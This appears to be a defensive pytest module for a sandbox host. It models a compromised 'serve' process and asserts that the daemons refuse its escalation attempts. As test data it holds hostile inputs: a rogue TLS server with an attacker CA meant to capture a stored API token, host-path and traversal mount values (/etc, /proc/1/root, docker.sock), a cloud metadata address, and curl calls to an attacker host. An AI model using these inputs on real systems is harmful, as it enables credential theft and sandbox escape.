"""A compromised `serve` can only select and narrow by its messages to hostd and vaultd.

It cannot set the operator's part.

The hostile code runs in the process of `serve`, with its user. The tests judge the result at the far end: by a server
of the attacker with its own certificate authority, by the request log of the demo's internet, and by the audit log. The
module tests `lifecycle/serve.py`.
"""

import json
import secrets
import socket
import ssl
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from demo.sandboxes import Secrets
from policy.compile import compile_named
from policy.load import load
from testbed.internet import API, ATTACKER, GIT, STATUS, UP_ADDRESS, Internet, in_namespace, ip
from testbed.pki import Authority, make_authority, write_host_certificate
from testbed.stack import IMAGE, POLICY, Stack
from tests.security.compromise.stack import CompromisedStack, Hostile
from tests.stacks import beside, put_secrets
from wire.api import vaultd
from wire.api.hostd import Remove
from wire.operations import Request, operation, parameters

pytestmark = pytest.mark.system

ROGUE_ADDRESS = "93.184.216.77"
ASK = """
import json, socket, wire
def ask(path, op, parameters):
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(60)
        sock.connect(path)
        wire.send(sock, {"id": 1, "op": op, **parameters})
        return wire.receive(sock)[0]
"""
OPERATOR = f"always_deny: [{STATUS}]\nceiling: {{hosts: [{API}, {STATUS}, {GIT}]}}\n"
"""The settings in the operator's file beside the demo's policies."""
SANDBOXES = 3
SNAPSHOTS = 2
MEMORY = 1 << 30
GRANT = vaultd.GrantForm("api-token", API, 443, "https")


def until[T](ask: Callable[[], T], seconds: float = 60.0) -> T:
    """Call `ask` until its answer is true or the time is over. Return the last answer."""
    deadline = time.monotonic() + seconds
    while not (answer := ask()) and time.monotonic() < deadline:
        time.sleep(0.1)
    return answer


class Operated(CompromisedStack):
    """A server with its own policy file and with maxima that a test can reach."""

    def __init__(self, internet: Internet, directory: Path, policy: Path = POLICY, port: int = 0) -> None:
        super().__init__(internet, directory, directory / "policies.yaml", port)
        self._shipped = policy

    @property
    def settings(self) -> str:
        bounds = f'max_sandboxes = {SANDBOXES}\nmax_memory = "{MEMORY}"\nmax_cpu = "1"\nmax_disk = "512Mi"\n'
        text = super().settings.replace("default_disk =", f"{bounds}default_disk =")
        return f'{text}\n[sallyport.snapshots]\ncount = {SNAPSHOTS}\nmax_bytes = "64Mi"\ntotal_bytes = "64Mi"\n'

    def start(self) -> None:
        self.directory.mkdir(parents=True, exist_ok=True, mode=0o711)
        self.policy.write_text(self._shipped.read_text() + OPERATOR)
        self.policy.chmod(0o644)
        super().start()


@pytest.fixture(scope="module", name="compromised")
def _compromised(values: Secrets) -> Iterator[Stack]:
    with beside(Operated, "compromised", values) as stack:
        put_secrets(stack, values)
        yield stack


@dataclass
class Rogue:
    """A server of the attacker that claims to be the API, with a certificate of the attacker's own authority."""

    authority: Authority
    received: list[bytes] = field(default_factory=list)

    def serve(self, listener: socket.socket, context: ssl.SSLContext) -> None:
        while True:
            try:
                sock, _ = listener.accept()
            except OSError:
                return
            threading.Thread(target=self._take, args=(sock, context), daemon=True).start()

    def _take(self, sock: socket.socket, context: ssl.SSLContext) -> None:
        try:
            sock.settimeout(20)
            with context.wrap_socket(sock, server_side=True) as stream:
                head = b""
                while b"\r\n\r\n" not in head and (data := stream.recv(65536)):
                    head += data
                self.received.append(head)
                stream.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
        except OSError:
            self.received.append(b"")
        finally:
            sock.close()

    def ask(self, internet: Internet, mark: str) -> None:
        """Send the control's request: a client that trusts the attacker's authority and dials its address is served."""
        context = ssl.create_default_context(cadata=self.authority.pem)
        sock = internet.open_socket(internet.up, socket.AF_INET, socket.SOCK_STREAM)
        sock.settimeout(20)
        sock.connect((ROGUE_ADDRESS, 443))
        with context.wrap_socket(sock, server_hostname=API) as stream:
            stream.sendall(f"GET /{mark} HTTP/1.1\r\nHost: {API}\r\n\r\n".encode())
            stream.recv(100)


@pytest.fixture(scope="module", name="rogue")
def _rogue(compromised: CompromisedStack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rogue]:
    internet = compromised.internet
    rogue = Rogue(make_authority("Attacker Root"))
    ip("-n", internet.net, "addr", "add", f"{ROGUE_ADDRESS}/32", "dev", "lo")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(write_host_certificate(rogue.authority, API, tmp_path_factory.mktemp("rogue")))
    listener = in_namespace(internet.path(internet.net), lambda: socket.create_server((ROGUE_ADDRESS, 443)))
    thread = threading.Thread(target=rogue.serve, args=(listener, context), daemon=True)
    thread.start()
    mark = secrets.token_hex(8)
    rogue.ask(internet, mark)
    assert [True] == [mark.encode() in head for head in rogue.received]
    rogue.received.clear()
    yield rogue
    listener.shutdown(socket.SHUT_RDWR)
    thread.join()
    listener.close()


@dataclass(frozen=True)
class Answer:
    """hostd's answer to a launch. `refused` is the error code, or None if a sandbox was launched."""

    sandbox: str
    refused: str | None


@dataclass
class Taken:
    """`serve`, which runs the code of the test."""

    stack: CompromisedStack
    process: Hostile
    rogue: Rogue
    secret: str

    def ask(self, daemon: str, op: str, **parameters: Any) -> dict[str, Any]:
        """Return the answer of hostd or vaultd to `serve`. hostd takes a selection as a JSON text."""
        if isinstance(selection := parameters.get("selection"), dict):
            parameters["selection"] = json.dumps(selection)
        code = f"value = ask({str(self.stack.run / daemon)!r}, {op!r}, json.loads({json.dumps(parameters)!r}))"
        answer: dict[str, Any] = self.process.run(ASK + code)
        return answer

    def launch(self, runtime: str, command: str, *, grants: Any = (GRANT,), inline: Any = None, **more: Any) -> Answer:
        """Launch a sandbox that runs `command`. The fields in `more` replace or extend the honest message."""
        sandbox = f"sbx-{secrets.token_hex(8)}"
        message = self.honest(sandbox, runtime, command, self.open(sandbox, grants, inline)) | more
        answer = self.ask("hostd.sock", "launch", **message)
        return Answer(sandbox, answer.get("error", {}).get("code"))

    def open(self, sandbox: str, grants: Any = (GRANT,), inline: Any = None) -> str:
        """Register a sandbox with vaultd. Return its root certificate."""
        request = vaultd.OpenSandbox(sandbox, sandbox, tuple(grants), inline or {})
        return str(self.vault(request)["ok"]["root_pem"])

    def vault(self, request: Request[Any]) -> dict[str, Any]:
        """Return vaultd's answer to `serve`."""
        return self.ask("vault.sock", operation(request), **parameters(request))

    def honest(self, sandbox: str, runtime: str, command: str, root: str) -> dict[str, Any]:
        """Return the message that a `serve` that is not compromised sends."""
        return {
            "sandbox": sandbox,
            "runtime": runtime,
            "image": IMAGE,
            "entrypoint": ["sh", "-c", f"{command}; exec sleep 1000"],
            "env": {},
            "cpu_nanos": 10**9,
            "memory_bytes": 1 << 29,
            "pids": 256,
            "disk_bytes": 1 << 28,
            "isolation": False,
            "held": False,
            "ca_root": root,
            "execd_token_sha256": "0" * 64,
            "selection": {"policy_name": "agents", "network_policy": None, "bindings": []},
            "volumes": [],
            "snapshot": None,
        }

    def remove(self, sandbox: str) -> None:
        assert () == self.stack.ask(Remove(sandbox)).residue
        self.vault(vaultd.CloseSandbox(sandbox))

    def judged(self, sandbox: str, host: str) -> list[dict[str, Any]]:
        """Return the records of a sandbox's flows to `host`, when there is at least one.

        Each sandbox that is launched here sends a request immediately.
        """

        def flows() -> list[dict[str, Any]]:
            records = self.stack.audit_records()
            return [item for item in records if item.get("sandbox") == sandbox and item.get("host") == host]

        return until(flows)

    def works(self, runtime: str) -> None:
        """Check that an honest launch still works and its request arrives with the secret at the bound host."""
        mark = secrets.token_hex(8)
        answer = self.launch(runtime, curl(API, mark))
        assert None is answer.refused
        (note,) = until(lambda: self.noted(API, mark))
        assert self.secret in str(note["headers"])
        self.remove(answer.sandbox)

    def noted(self, host: str, mark: str) -> list[dict[str, Any]]:
        """Return the requests that arrived at `host` with this mark in their path."""
        notes = self.stack.internet.notes()
        return [note for note in notes if note.get("host") == host and mark in str(note.get("target"))]


@pytest.fixture(scope="module", name="serve_process")
def _serve_process(compromised: CompromisedStack) -> Iterator[Hostile]:
    process = compromised.hostile("serve")
    yield process
    process.close()


@pytest.fixture(name="taken")
def _taken(compromised: CompromisedStack, serve_process: Hostile, rogue: Rogue, values: Secrets) -> Taken:
    rogue.received.clear()
    return Taken(compromised, serve_process, rogue, values.api)


def complete(taken: Taken, sandbox: str, policy: dict[str, Any]) -> dict[str, Any]:
    """Return a whole configuration of a worker with values of the attacker's choice."""
    return {
        "sandbox": sandbox,
        "generation": 1,
        "policy": policy,
        "upstream_roots": taken.rogue.authority.pem,
        "dns_upstreams": [f"{ROGUE_ADDRESS}:53"],
        "allowed_addresses": ["10.0.0.0/8", "169.254.169.254/32", f"{UP_ADDRESS}/32"],
        "host_addresses": {API: [ROGUE_ADDRESS]},
        "inside": "192.0.2.2",
        "limits": {"connections": 4096, "dial_rate": 10000},
    }


def curl(host: str, mark: str, scheme: str = "https") -> str:
    return f"curl -sS -k --max-time 20 {scheme}://{host}/v1/{mark}"


def arrived(taken: Taken, mark: str) -> list[bytes]:
    """Return the requests at the attacker's server that contain the mark or the secret."""
    return [head for head in taken.rogue.received if mark.encode() in head or taken.secret.encode() in head]


def test_a_launch_that_brings_a_worker_s_configuration_brings_the_attacker_nothing(taken: Taken, runtime: str) -> None:
    """The message has the attacker's authorities and a fixed address for the host of a stored secret.

    An earlier release accepted such a message.
    """
    policy = compile_named(load(taken.stack.policy), "agents").to_json()
    mark, sandbox = secrets.token_hex(8), f"sbx-{secrets.token_hex(8)}"
    root = taken.open(sandbox)
    message = taken.honest(sandbox, runtime, curl(API, mark), root)
    message |= {"generation": 1, "ca_bundle": root}
    message |= {"gateway": complete(taken, sandbox, policy)}
    del message["selection"], message["ca_root"]

    answer = taken.ask("hostd.sock", "launch", **message)
    if "ok" in answer:
        taken.judged(sandbox, API)
        until(lambda: arrived(taken, mark), 10)
        taken.remove(sandbox)

    assert [] == arrived(taken, mark)
    assert "invalid" == answer.get("error", {}).get("code")


def test_a_new_policy_that_brings_a_worker_s_configuration_changes_nothing(taken: Taken, runtime: str) -> None:
    policy = compile_named(load(taken.stack.policy), "agents").to_json()
    answer = taken.launch(runtime, "true")
    before = taken.stack.inspect(answer.sandbox).policy
    whole = complete(taken, answer.sandbox, policy)
    selection = taken.honest(answer.sandbox, runtime, "true", "")["selection"]
    attempts: list[dict[str, Any]] = [
        {"gateway": whole},
        {"gateway": whole, "decided": True},
        {"selection": selection, "gateway": whole},
        {"selection": whole},
        {"selection": policy},
        *({"selection": selection | {key: value}} for key, value in whole.items()),
        *({"selection": selection, key: value} for key, value in whole.items() if key != "sandbox"),
    ]
    codes = [
        taken.ask("hostd.sock", "configure", **({"sandbox": answer.sandbox, "decided": True} | attempt))
        for attempt in attempts
    ]
    assert ["invalid"] * len(attempts) == [code.get("error", {}).get("code") for code in codes]
    assert before == taken.stack.inspect(answer.sandbox).policy
    taken.remove(answer.sandbox)


def test_a_launch_mounts_nothing_of_the_host_that_the_operator_did_not_allow(taken: Taken, runtime: str) -> None:
    """The list of the operator is empty. A volume is no way around it, nor around the places of Sallyport's own files.

    `serve` can neither list nor remove named volumes. The control launches with a named volume.
    """
    volume = {"target": "/mnt/v", "sub_path": "", "read_only": False, "host": None, "named": None}
    own = {"name": "control", "create": True, "delete": True, "size_bytes": 64 << 20}
    stack = taken.stack
    paths = ("/", "/etc", "/proc/1/root", stack.run, stack.run / "docker.sock", stack.state, stack.state / "vault")
    attempts: list[dict[str, Any]] = [
        *({"host": {"path": str(path)}} for path in paths),
        *({"host": {"path": path}} for path in ("../etc", "/etc/../etc", "/etc/")),
        *({"named": own, "sub_path": path} for path in ("..", "../../../etc", "/etc")),
        *({"named": own | {"name": name}} for name in ("../vault", "..", "", "/etc", "a/b")),
        *({"named": own, "target": place} for place in ("/opt/opensandbox/execd", "/proc", "/etc", "/../x")),
        {"named": own, "host": {"path": "/etc"}},
        {"named": own, "source": "/etc"},
    ]
    codes = [taken.launch(runtime, "true", volumes=[volume | attempt]).refused for attempt in attempts]
    assert ["path_forbidden"] * len(paths) + ["invalid"] * (len(attempts) - len(paths)) == codes
    for op, parameters_ in (("list_volumes", {}), ("remove_volume", {"name": "control"})):
        assert "forbidden" == taken.ask("hostd.sock", op, **parameters_)["error"]["code"]
    mounts = [line for line in Path("/proc/self/mountinfo").read_text().splitlines() if f"{stack.run}/volumes/" in line]
    assert [] == mounts
    answer = taken.launch(runtime, "true", volumes=[volume | {"named": own}])
    assert None is answer.refused
    taken.remove(answer.sandbox)
    assert [] == list((stack.state / "hostd" / "volumes").iterdir())


def test_what_is_the_operator_s_is_refused_wherever_a_launch_has_it(taken: Taken, runtime: str) -> None:
    """The launch has authorities, resolvers, addresses, limits, a compiled policy, or a resource above its maximum."""
    policy = compile_named(load(taken.stack.policy), "agents").to_json()
    whole = complete(taken, "sbx-any", policy)
    selection = taken.honest("", runtime, "", "")["selection"]
    bound = {"name": "b", "match": {"hosts": [API]}, "auth": {"type": "bearer", "credential": "x"}}
    attempts: dict[str, dict[str, Any]] = {
        **{f"beside the selection: {key}": {key: value} for key, value in whole.items() if key != "sandbox"},
        **{f"in the selection: {key}": {"selection": selection | {key: value}} for key, value in whole.items()},
        **{
            f"in the network policy: {key}": {
                "selection": selection | {"network_policy": {"defaultAction": "allow", "egress": [], key: [API]}}
            }
            for key in ("always_allow", "always_deny", "plaintext_secrets", "ceiling")
        },
        "a secret in a binding": {
            "selection": selection | {"bindings": [bound | {"inject": {"secret": "api-token", "as": "bearer"}}]}
        },
        "a compiled policy": {"selection": policy},
        "a compiled policy by its name": {"selection": selection | {"policy_name": policy}},
        "a generation": {"generation": 7},
        "a bundle of authorities": {"ca_bundle": taken.rogue.authority.pem},
        "more processors": {"cpu_nanos": 10**9 + 1},
        "more memory": {"memory_bytes": MEMORY + 1},
        "more processes": {"pids": 4097},
        "more disk": {"disk_bytes": (512 << 20) + 1},
        "no limit of the disk": {"disk_bytes": None},
    }
    codes = {}
    for name, attempt in attempts.items():
        mark = secrets.token_hex(8)
        answer = taken.launch(runtime, curl(API, mark), **attempt)
        codes[name] = answer.refused
        if answer.refused is None:
            taken.judged(answer.sandbox, API)
            taken.remove(answer.sandbox)
    assert dict.fromkeys(attempts, "invalid") == codes
    assert [] == taken.rogue.received
    taken.works(runtime)


def test_there_are_no_more_sandboxes_than_the_operator_allows(taken: Taken, runtime: str) -> None:
    answers = [taken.launch(runtime, "true") for _ in range(SANDBOXES + 1)]
    assert [None] * SANDBOXES + ["full"] == [answer.refused for answer in answers]
    for answer in answers[:SANDBOXES]:
        taken.remove(answer.sandbox)


def test_there_are_no_more_and_no_larger_snapshots_than_the_operator_allows(taken: Taken, runtime: str) -> None:
    """hostd counts by itself, also what is being taken. A snapshot that a sandbox began with is not removed."""
    marks = {size: secrets.token_hex(8) for size in (1 << 20, 65 << 20)}
    small, large = (
        taken.launch(runtime, f"head -c {size} /dev/urandom >/root/content; {curl(API, mark)}")
        for size, mark in marks.items()
    )
    assert [None, None] == [small.refused, large.refused]
    assert all(until(lambda mark=mark: taken.noted(API, mark)) for mark in marks.values())
    names = [str(uuid.uuid4()) for _ in range(SNAPSHOTS + 2)]
    sources = [large.sandbox, *[small.sandbox] * (SNAPSHOTS + 1)]
    answers = [
        taken.ask("hostd.sock", "take_snapshot", sandbox=sandbox, snapshot=name)
        for sandbox, name in zip(sources, names, strict=True)
    ]
    codes = [answer.get("error", {}).get("code") for answer in answers]
    assert ["too_large", *[None] * SNAPSHOTS, "full"] == codes
    taken.remove(large.sandbox)
    restored = taken.launch(runtime, "true", snapshot=names[1])
    assert None is restored.refused
    assert "busy" == taken.ask("hostd.sock", "remove_snapshot", snapshot=names[1])["error"]["code"]
    for answer in (restored, small):
        taken.remove(answer.sandbox)
    for name in names:
        assert "ok" in taken.ask("hostd.sock", "remove_snapshot", snapshot=name)


def test_a_selection_never_reaches_beyond_the_operator_s_file(taken: Taken, runtime: str) -> None:
    """A selection cannot allow a host that is always denied or beyond the ceiling, or use a policy that does not exist.

    A host that the operator allows is the control.
    """
    mark = secrets.token_hex(8)
    hosts = [STATUS, ATTACKER, API]
    rules = [{"action": "allow", "target": target} for target in hosts]
    everything = {"policy_name": None, "network_policy": {"defaultAction": "allow", "egress": rules}, "bindings": []}
    command = "; ".join(curl(host, mark) for host in hosts)  # the last host is the control
    wide = taken.launch(runtime, command, selection=everything)
    unknown = taken.launch(runtime, curl(API, f"{mark}u"), selection=everything | {"policy_name": "mine"})
    assert [None, None] == [wide.refused, unknown.refused]
    (note,) = until(lambda: taken.noted(API, mark))
    assert taken.secret not in str(note["headers"])
    assert [[], []] == [taken.noted(host, mark) for host in (STATUS, ATTACKER)]
    assert {"deny"} == {item["decision"] for item in taken.judged(unknown.sandbox, API)}
    assert [] == taken.noted(API, f"{mark}u")
    for answer in (wide, unknown):
        taken.remove(answer.sandbox)


def test_a_binding_sends_a_value_only_as_the_operator_allows(taken: Taken, runtime: str) -> None:
    """A value is sent over TLS, but not in plain text. A binding that names a stored secret sends no secret."""
    value, mark = f"inline-{secrets.token_hex(16)}", secrets.token_hex(8)
    match = {"hosts": [API, GIT], "schemes": ["http", "https"]}
    rules = [{"action": "allow", "target": target} for target in (API, GIT)]

    def selection(schemes: list[str], credential: str) -> dict[str, Any]:
        binding = {"name": "b", "match": match | {"schemes": schemes}}
        binding["auth"] = {"type": "apiKey", "name": "x-bound", "credential": credential}
        return {"policy_name": None, "network_policy": {"egress": rules}, "bindings": [binding]}

    def grants(secret: str) -> list[vaultd.GrantForm]:
        return [
            vaultd.GrantForm(secret, host, port, scheme)
            for host in (API, GIT)
            for port, scheme in ((80, "http"), (443, "https"))
        ]

    inline = {"inline:1/token": vaultd.Value(value)}
    asked = "; ".join((curl(API, f"{mark}p", "http"), curl(API, f"{mark}t")))
    plain = taken.launch(
        runtime, asked, grants=grants("inline:1/token"), inline=inline, selection=selection(["http"], "1/token")
    )
    tls = taken.launch(
        runtime,
        curl(API, f"{mark}s"),
        grants=grants("inline:1/token"),
        inline=inline,
        selection=selection(["https"], "1/token"),
    )
    stored = taken.launch(
        runtime, "; ".join((curl(GIT, f"{mark}g"), curl(API, f"{mark}a"))), selection=selection(["https"], "api-token")
    )
    assert [None] * 3 == [plain.refused, tls.refused, stored.refused]
    (note,) = until(lambda: taken.noted(API, f"{mark}s"))
    assert value in str(note["headers"])
    assert until(lambda: taken.noted(API, f"{mark}t"))
    assert until(lambda: taken.judged(stored.sandbox, API))
    heads = [*taken.noted(API, f"{mark}p"), *taken.noted(API, f"{mark}t"), *taken.noted(GIT, mark)]
    assert [] == [note for note in heads if value in str(note) or taken.secret in str(note)]
    assert [] == [note for note in taken.noted(API, f"{mark}a") if taken.secret in str(note)]
    for answer in (plain, tls, stored):
        taken.remove(answer.sandbox)
